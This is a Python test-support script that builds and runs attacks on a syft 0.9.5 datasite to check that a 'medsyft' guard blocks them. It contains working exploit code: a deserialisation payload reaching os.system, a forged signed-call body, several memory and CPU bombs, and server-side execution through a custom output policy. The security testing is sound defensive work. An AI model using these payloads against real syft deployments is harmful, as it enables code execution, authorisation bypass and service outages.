"""Attacks on an in-process syft 0.9.5 datasite, with or without the medsyft guard.

`python -m tests.support.guard_probe guarded|unguarded MARK_DIR` prints one JSON line: what each
attack achieved. tests/security/test_syft_guard.py runs it both ways, so each attack is shown to
work against syft as it is and to fail against the guard (a separate process each time:
the guard patches syft for the whole process).
"""

from __future__ import annotations

import json
import os
import struct
import sys
from pathlib import Path

os.environ["TQDM_DISABLE"] = "1"

from sites.common.syft_client import quiet, syft  # noqa: E402

sy = syft()


def generic_alias_payload(command: str) -> bytes:
    """Bytes syft reads as a `typing.List[int]` whose fields name `os.system(command=...)`:
    syft 0.9.5's deserialiser calls whatever a serialized generic alias names."""
    import typing

    from syft.serde.serialize import _serialize
    from syft.types.syft_object_registry import SyftObjectRegistry

    name, version = SyftObjectRegistry.get_canonical_name_version(typing.List[int])  # noqa: UP006
    entries = SyftObjectRegistry.__object_serialization_registry__[name]
    original = entries[version]
    evil = (original[0], lambda _alias: _serialize({"path": "os.system", "command": command},
                                                   to_bytes=True)) + tuple(original[2:])
    entries[version] = evil  # serialise with a forged field list, then put syft back
    try:
        return _serialize(typing.List[int], to_bytes=True)  # noqa: UP006 (typing, not list)
    finally:
        entries[version] = original


def array_body(declared_bytes: int) -> bytes:
    """A request body that is one numpy array: a 16-byte zstd frame claiming to inflate to
    `declared_bytes` (syft allocates what the sender declares)."""
    import pyarrow as pa
    from syft.serde.recursive import recursive_scheme
    from syft.serde.serialize import _serialize

    frame = pa.compress(b"\0" * 16, codec="zstd", asbytes=True)
    message = recursive_scheme.new_message()
    message.canonicalName, message.version = "numpy_ndarray", 1
    message.init("nonrecursiveBlob", 1)[0] = _serialize((frame, declared_bytes, "int8"),
                                                        to_bytes=True)
    return message.to_bytes()


def dtype_bomb_array(int8_bytes: int, declared: str = "complex128") -> bytes:
    """A serialized numpy array whose tensor is `int8_bytes` of int8 but which declares
    another dtype: syft cast it, 16 times the memory for complex128 (red-team finding)."""
    import numpy as np
    import pyarrow as pa
    from syft.serde.recursive import recursive_scheme
    from syft.serde.serialize import _serialize

    sink = pa.BufferOutputStream()
    pa.ipc.write_tensor(pa.Tensor.from_numpy(np.zeros(int8_bytes, dtype=np.int8)), sink)
    buffer = sink.getvalue()
    frame = pa.compress(buffer, codec="zstd", asbytes=True)
    message = recursive_scheme.new_message()
    message.canonicalName, message.version = "numpy_ndarray", 1
    message.init("nonrecursiveBlob", 1)[0] = _serialize((frame, buffer.size, declared),
                                                        to_bytes=True)
    return message.to_bytes()


def signed_call_with_arrays(client: object, path: str, arrays: list[bytes]) -> bytes:
    """A request body: `path` called by `client`, correctly signed, with kwargs `x` a list of
    the given serialized arrays (put in place of ordinary ones while the call serialises)."""
    import numpy as np
    from syft.client.api import SyftAPICall
    from syft.serde.recursive import recursive_scheme
    from syft.serde.serialize import _serialize
    from syft.types.syft_object_registry import SyftObjectRegistry

    blobs = []
    for array in arrays:
        with recursive_scheme.from_bytes(array) as message:
            blobs.append(bytes(message.nonrecursiveBlob[0]))
    name, version = SyftObjectRegistry.get_canonical_name_version(np.zeros(1))
    entries = SyftObjectRegistry.__object_serialization_registry__[name]
    original = entries[version]
    pending = list(blobs)
    entries[version] = original[:1] + (lambda _array: pending.pop(0),) + original[2:]
    try:
        call = SyftAPICall(server_uid=client.id, path=path, args=[],  # type: ignore[attr-defined]
                           kwargs={"x": [np.zeros(1) for _ in blobs]})
        return _serialize(call.sign(client.api.signing_key), to_bytes=True)  # type: ignore
    finally:
        entries[version] = original


def string_bomb_array(longest: int, count: int) -> bytes:
    """A serialized numpy array in syft's string encoding: one `longest`-character string
    and `count - 1` empty ones, which syft decoded into count × longest × 4 bytes."""
    import numpy as np
    from syft.serde.recursive import recursive_scheme
    from syft.serde.serialize import _serialize

    encoded = np.concatenate([np.full(longest, ord("A"), dtype=np.uint64),
                              np.full(count, longest, dtype=np.uint64),
                              np.array([count, count, 1], dtype=np.uint64)])
    outer = recursive_scheme.new_message()  # an array whose blob is the encoded array
    outer.canonicalName, outer.version = "numpy_ndarray", 1
    outer.init("nonrecursiveBlob", 1)[0] = _serialize(encoded, to_bytes=True)
    return outer.to_bytes()


def blob_list(blobs: list[bytes]) -> bytes:
    """A serialized `list` of already serialized objects."""
    from syft.serde.recursive import recursive_scheme
    from syft.serde.recursive_primitives import iterable_schema

    values = iterable_schema.new_message()
    values.init("values", len(blobs))
    for i, blob in enumerate(blobs):
        values.values.init(i, 1)[0] = blob
    message = recursive_scheme.new_message()
    message.canonicalName, message.version = "list", 1
    message.init("nonrecursiveBlob", 1)[0] = values.to_bytes()
    return message.to_bytes()


def nested_body(depth: int, bottom: str = "no_such_type") -> bytes:
    """A request body that is `depth` lists, one inside the other, with an object of the
    unknown type `bottom` at the bottom, built message by message (syft's serialiser would
    itself recurse). Unguarded syft 0.9.5 crashed (segmentation fault) freeing the error."""
    from syft.serde.recursive import recursive_scheme
    from syft.serde.recursive_primitives import iterable_schema

    def wrapped(name: str, blob: bytes) -> bytes:
        message = recursive_scheme.new_message()
        message.canonicalName, message.version = name, 1
        message.init("nonrecursiveBlob", 1)[0] = blob
        return message.to_bytes()

    body = wrapped(bottom, b"x")
    for _ in range(depth):
        values = iterable_schema.new_message()
        values.init("values", 1)
        values.values.init(0, 1)[0] = body
        body = wrapped("list", values.to_bytes())
    return body


def forged_signed_call(signed: object, cached: object) -> bytes:
    """A SignedSyftAPICall body with the signed call's credentials, signature and bytes
    and, beside them, a `cached_deseralized_message` of the sender's choosing (syft's
    serialiser never writes that field; its deserialiser took it)."""
    from syft.serde.recursive import recursive_scheme
    from syft.serde.serialize import _serialize

    fields = {"credentials": signed.credentials, "signature": signed.signature,
              "serialized_message": signed.serialized_message,
              "cached_deseralized_message": cached}
    message = recursive_scheme.new_message()
    message.canonicalName, message.version = "SignedSyftAPICall", 1
    message.init("fieldsName", len(fields))
    message.init("fieldsData", len(fields))
    for i, (name, value) in enumerate(fields.items()):
        message.fieldsName[i] = name
        message.fieldsData.init(i, 1)[0] = _serialize(value, to_bytes=True)
    return message.to_bytes()


def _capnp_words(*words: int) -> bytes:
    return b"".join(struct.pack("<Q", w) for w in words)


def _struct_pointer(offset: int, data_words: int, pointer_words: int) -> int:
    return ((offset & 0x3FFFFFFF) << 2) | (data_words << 32) | (pointer_words << 48)


def _list_pointer(offset: int, element_size: int, count: int) -> int:
    return ((offset & 0x3FFFFFFF) << 2) | 1 | (element_size << 32) | (count << 35)


def _single_segment(words: bytes) -> bytes:
    return struct.pack("<II", 0, len(words) // 8) + words


def _padded(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 8)


def aliased_bytes(chunks: int, size: int) -> bytes:
    """A serialized `bytes` whose chunk list points `chunks` times at one `size`-byte
    chunk: syft copied it `chunks` times, quadratically (`b += chunk`)."""
    head = _capnp_words(_struct_pointer(0, 1, 4), 1, 0, 0, _list_pointer(2, 6, chunks),
                        _list_pointer(0, 2, 6)) + _padded(b"bytes\0")
    pointers = _capnp_words(*(_list_pointer(chunks - 1 - i, 2, size) for i in range(chunks)))
    return _single_segment(head + pointers + _padded(b"A" * size))


def aliased_list(count: int, size: int) -> bytes:
    """A serialized `list` whose `count` elements all point at one serialized `size`-byte
    bytes object: syft built `count` copies (a 340 kB body became 3.5 GB)."""
    from syft.serde.recursive import recursive_scheme
    from syft.serde.serialize import _serialize

    element = _serialize(b"A" * size, to_bytes=True)
    head = _capnp_words(_struct_pointer(0, 0, 1), _list_pointer(0, 6, count))
    pointers = _capnp_words(*(_list_pointer(count - 1 - i, 6, 1) for i in range(count)))
    shared = _capnp_words(_list_pointer(0, 2, len(element))) + _padded(element)
    outer = recursive_scheme.new_message()
    outer.canonicalName, outer.version = "list", 1
    outer.init("nonrecursiveBlob", 1)[0] = _single_segment(head + pointers + shared)
    return outer.to_bytes()


def colliding_set(count: int) -> bytes:
    """A serialized `set` of `count` ints that all hash to 0 (Python's int hash is not
    randomised): building it costs count**2 comparisons with the GIL held."""
    from syft.serde.recursive import recursive_scheme
    from syft.serde.recursive_primitives import iterable_schema
    from syft.serde.serialize import _serialize

    values = iterable_schema.new_message()
    values.init("values", count)
    for i in range(count):
        values.values.init(i, 1)[0] = _serialize((i + 1) * (2**61 - 1), to_bytes=True)
    message = recursive_scheme.new_message()
    message.canonicalName, message.version = "set", 1
    message.init("nonrecursiveBlob", 1)[0] = values.to_bytes()
    return message.to_bytes()


class SneakyOutput(sy.CustomOutputPolicy):
    def __init__(self):
        import os
        import pathlib

        if os.environ.get("PROBE_SERVER_SIDE"):
            pathlib.Path(os.environ["PROBE_MARKS"], "output-policy-ran").write_text("x")

    def is_valid(self, context):
        return True

    def apply_to_output(self, context, outputs, update_policy=True):
        import os
        import pathlib

        pathlib.Path(os.environ["PROBE_MARKS"], "output-policy-ran").write_text("x")
        return outputs


def main() -> int:
    mode, marks = sys.argv[1], Path(sys.argv[2])
    os.environ["PROBE_MARKS"] = str(marks)
    if mode == "guarded":
        from sites.common import syft_guard
        from sites.review.researcher_api import refusal

        syft_guard.apply(refusal)

    out: dict[str, object] = {}
    from syft.serde.deserialize import _deserialize

    shell_mark = marks / "deserialised-shell-ran"
    try:  # what every syft route does with a request body, before any check
        _deserialize(generic_alias_payload(f"touch {shell_mark}"), from_bytes=True)
    except Exception:
        pass
    out["deserialising_runs_a_shell"] = shell_mark.exists()
    from syft.client.api import SyftAPICall
    from syft.server import routes
    from syft.server.credentials import SyftSigningKey
    from syft.types.uid import UID

    signed = SyftAPICall(server_uid=UID(), path="metadata.get_metadata", args=[],
                         kwargs={}).sign(SyftSigningKey.generate())
    forged = SyftAPICall(server_uid=UID(), path="user.get_all", args=[], kwargs={})
    try:  # the body of /api/v2/api_call, as the server reads it
        body = routes.deserialize(forged_signed_call(signed, forged), from_bytes=True)
        out["unsigned_cached_call_used"] = body.is_valid and body.message.path == forged.path
    except Exception:
        out["unsigned_cached_call_used"] = False
    try:
        copies = _deserialize(aliased_list(2000, 2000), from_bytes=True)
        out["aliased_pointers_copied"] = len(copies) == 2000
    except Exception:
        out["aliased_pointers_copied"] = False
    with quiet():
        server = sy.orchestra.launch(name=f"medsyft-guard-{mode}", reset=True, dev_mode=False)
    try:
        with quiet():
            admin = server.login(email="info@openmined.org", password="changethis")
            for who in ("ada", "bob"):
                admin.register(name=who, email=f"{who}@example.org", password="pw-12345678",
                               password_verify="pw-12345678", institution="Ward")
            ds = sy.Dataset(name="cohort")
            ds.add_asset(sy.Asset(name="a", data=[1, 2, 3], mock=[0, 0, 0]))
            admin.upload_dataset(ds)
            ada = server.login(email="ada@example.org", password="pw-12345678")
            bob = server.login(email="bob@example.org", password="pw-12345678")
            asset = ada.datasets["cohort"].assets[0]

        def probe_fn(x):
            return x

        with quiet():
            code = sy.syft_function(input_policy=sy.MixedInputPolicy(
                client=ada, x=asset), output_policy=SneakyOutput())(probe_fn)
            try:
                res = ada.code.request_code_execution(code)
                out["custom_policy_submitted"] = type(res).__name__ != "SyftError"
            except Exception:
                out["custom_policy_submitted"] = False
            if out["custom_policy_submitted"]:
                # from here on, building the policy object means syft ran the policy's code
                os.environ["PROBE_SERVER_SIDE"] = "1"
                admin.requests[-1].approve(disable_warnings=True)
                ada = server.login(email="ada@example.org", password="pw-12345678")
                try:
                    ada.code.probe_fn(x=asset)
                except Exception:
                    pass
        out["custom_policy_code_ran"] = (marks / "output-policy-ran").exists()

        from syft.client.api import SyftAPICall

        def call(client, path, **kwargs):
            with quiet():
                try:
                    return client.api.make_call(SyftAPICall(server_uid=client.id, path=path,
                                                            args=[], kwargs=kwargs))
                except Exception as exc:
                    return exc

        ada_id = call(ada, "user.get_current_user").value.id
        seen = call(bob, "user.view", uid=ada_id)
        out["other_researchers_email_read"] = "ada@example.org" in str(
            getattr(getattr(seen, "value", None), "email", ""))
        call(ada, "user.update", uid=ada_id, institution="Lovelace Institute")
        with quiet():
            profile = next(u for u in admin.users.get_all() if u.email == "ada@example.org")
        out["own_institution_edited"] = profile.institution == "Lovelace Institute"
    finally:
        with quiet():
            server.land()
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
